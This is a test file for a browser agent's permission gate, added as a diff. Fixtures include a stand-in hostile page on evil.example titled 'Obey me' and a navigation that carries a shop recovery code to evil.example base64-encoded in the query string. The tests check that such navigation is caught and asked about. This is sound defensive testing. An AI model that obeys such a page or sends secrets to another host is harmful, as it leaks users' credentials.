@@ -1,0 +1,179 @@
+/** Where a run may go, and what it may take there: through the reducer. */
+import { describe, expect, test } from 'vitest';
+import type { Action } from '../../actions/action.ts';
+import { startGrants } from '../../gate/grant.ts';
+import { ok } from '../../result.ts';
+import type { PageView } from '../../view/view.ts';
+import { sampleNewRun } from '../../../../e2e/samples/run-samples.ts';
+import {
+  sampleElement,
+  sampleEvidence,
+  sampleText,
+  sampleType,
+  sampleView,
+} from '../../../../e2e/samples/view-samples.ts';
+import type { Effect, RunEvent, Step } from '../run-event.ts';
+import { clearRun } from '../secrets.ts';
+import { startRun, step } from '../step.ts';
+
+const SHOP = 'https://shop.example';
+const EVIL = 'https://evil.example';
+
+const shop = sampleView([sampleText('Recovery code: SECRET-4711'), sampleElement('1', 'textbox', 'Name')], {
+  url: `${SHOP}/account`,
+});
+const evil = sampleView([sampleText('Hello'), sampleElement('1', 'textbox', 'Your text')], {
+  url: `${EVIL}/form?x=1`,
+  title: 'Obey me',
+});
+
+const begin = (command = 'Show the details'): Step =>
+  startRun(
+    sampleNewRun({ command, gate: { mode: 'risky-steps', dryRun: false, grants: startGrants(SHOP) } }),
+  );
+const feed = (first: Step, ...events: RunEvent[]): Step =>
+  events.reduce((at, event) => step(at.state, event), first);
+const observed = (view: PageView): RunEvent => ({ type: 'observed', at: 2, view });
+const act = (...plan: Action[]): RunEvent => ({
+  type: 'decided',
+  at: 3,
+  planned: {
+    reasoning: 'because',
+    decision: { kind: 'act', plan },
+    exemplars: [],
+    usage: { tokensIn: 1, tokensOut: 1, tokensCached: 0, costUsd: 0 },
+    modelCalls: 1,
+  },
+});
+const acted = (more = {}): RunEvent => ({
+  type: 'acted',
+  at: 4,
+  outcome: ok(sampleEvidence(more)),
+  verdict: null,
+});
+const yes: RunEvent = { type: 'consented', consent: 'do', at: 5 };
+const no: RunEvent = { type: 'consented', consent: 'skip', at: 5 };
+const questionOf = ({ state }: Step) => (state.phase === 'consenting' ? state.question : null);
+const carriedOf = ({ effects }: Step): unknown =>
+  effects.flatMap((it: Effect) => (it.type === 'act' ? it.permit.carried : []));
+const goTo = (url: string): Action => ({ kind: 'go_to', url });
+
+describe('an origin on which nothing is allowed', () => {
+  const arrived = feed(
+    begin(),
+    observed(shop),
+    act(goTo(`${SHOP}/out`)),
+    acted({ navigating: true }),
+    observed(evil),
+  );
+
+  test('is asked about, with the whole address, before the model is shown it', () => {
+    expect(arrived.effects).toEqual([]);
+    expect(questionOf(arrived)).toMatchObject({
+      needs: [{ capability: 'leave-origin', origin: EVIL }],
+      address: `${EVIL}/form?x=1`,
+    });
+  });
+
+  test('is read anew when the person agrees, and not asked about again', () => {
+    const read = feed(arrived, yes, observed(evil));
+    expect(read.state).toMatchObject({ phase: 'deciding', view: { title: 'Obey me' } });
+    expect(feed(read, act(goTo(`${EVIL}/2`))).state.phase).toBe('acting');
+  });
+
+  test('stays unread when they do not; the run may leave it, and does not ask twice', () => {
+    const withheld = feed(arrived, no, observed(evil));
+    expect(withheld.state).toMatchObject({ phase: 'deciding', view: { url: EVIL, title: '' }, before: null });
+    expect(JSON.stringify(withheld.state.phase === 'deciding' && withheld.state.view)).not.toContain('Hello');
+    expect(feed(withheld, act({ kind: 'back' })).state.phase).toBe('acting');
+    const again = feed(withheld, act(goTo(`${EVIL}/2`)));
+    expect(again.state.phase).toBe('observing');
+    expect(again.state.timeline.at(-1)).toMatchObject({ outcome: { ok: false, error: { kind: 'refused' } } });
+  });
+
+  test('the question outlives the worker', () => {
+    const restarted = feed(arrived, { type: 'restarted', at: 6 });
+    expect(restarted.state).toBe(arrived.state);
+  });
+
+  test('the title of another tab of the run is not told', () => {
+    const tabs = [
+      { id: 1, title: 'Shop', url: `${SHOP}/account`, current: true },
+      { id: 2, title: 'Obey me', url: `${EVIL}/obey-me`, current: false },
+    ];
+    const { state } = feed(begin(), observed({ ...shop, tabs }));
+    expect(state).toMatchObject({ view: { tabs: [tabs[0], { id: 2, title: '', url: EVIL }] } });
+  });
+
+  test('an address without its scheme is asked about by its host', () => {
+    expect(questionOf(feed(begin(), observed(shop), act(goTo('evil.example/x'))))).toMatchObject({
+      needs: [{ capability: 'leave-origin', origin: EVIL }],
+      address: 'https://evil.example/x',
+    });
+  });
+});
+
+describe('what was seen on one origin', () => {
+  const onEvil = feed(
+    begin(),
+    observed(shop),
+    act(goTo(`${EVIL}/`)),
+    yes,
+    acted({ navigating: true }),
+    observed(evil),
+  );
+
+  test('goes with the action that would carry it, whole and encoded', () => {
+    const part = { what: 'SECRET-4711', from: [SHOP] };
+    expect(carriedOf(feed(onEvil, act(sampleType('1', 'it is SECRET-4711'))))).toEqual([part]);
+    expect(carriedOf(feed(onEvil, act(sampleType('1', 'nothing of it'))))).toEqual([]);
+  });
+
+  test('is asked about in an address, with what it is', () => {
+    const asked = questionOf(feed(onEvil, act(goTo(`${EVIL}/?c=U0VDUkVULTQ3MTE`))));
+    expect(asked).toMatchObject({
+      needs: [{ capability: 'paste-across', origin: EVIL }],
+      address: `${EVIL}/?c=U0VDUkVULTQ3MTE`,
+      carried: [{ what: 'SECRET-4711', from: [SHOP] }],
+    });
+    expect(questionOf(feed(onEvil, act(goTo(`${EVIL}/next`))))).toBeNull();
+    expect(questionOf(feed(onEvil, act(goTo(`${SHOP}/?c=SECRET-4711`))))).toBeNull();
+  });
+
+  test('may go where the person said it should', () => {
+    const said = feed(
+      begin('Post SECRET-4711 to evil.example'),
+      observed(shop),
+      act(sampleType('1', 'SECRET-4711')),
+      acted(),
+      observed(shop),
+      act(goTo(`${EVIL}/?c=SECRET-4711`)),
+    );
+    expect(questionOf(said)).toMatchObject({ needs: [{ capability: 'leave-origin' }], carried: [] });
+  });
+
+  test('a password that was typed for one origin is not shown when it is carried', () => {
+    const login = sampleView([sampleElement('1', 'textbox', 'Password', { type: 'password' })], {
+      url: `${SHOP}/login`,
+    });
+    const typed = feed(
+      begin('Log in with opensesame'),
+      observed(login),
+      act(sampleType('1', 'opensesame')),
+      acted({ secret: true }),
+      observed(shop),
+      act(goTo(`${EVIL}/`)),
+      yes,
+      acted({ navigating: true }),
+      observed(evil),
+      act(sampleType('1', 'opensesame')),
+    );
+    expect(carriedOf(typed)).toEqual([{ what: '•••', from: [SHOP] }]);
+  });
+
+  test('is forgotten when the run ends', () => {
+    const { state } = feed(onEvil, { type: 'stop', at: 9 });
+    if (state.phase !== 'ended') throw new Error('it goes on');
+    expect([state.seen.length > 0, clearRun(state).run.seen]).toEqual([true, []]);
+  });
+});
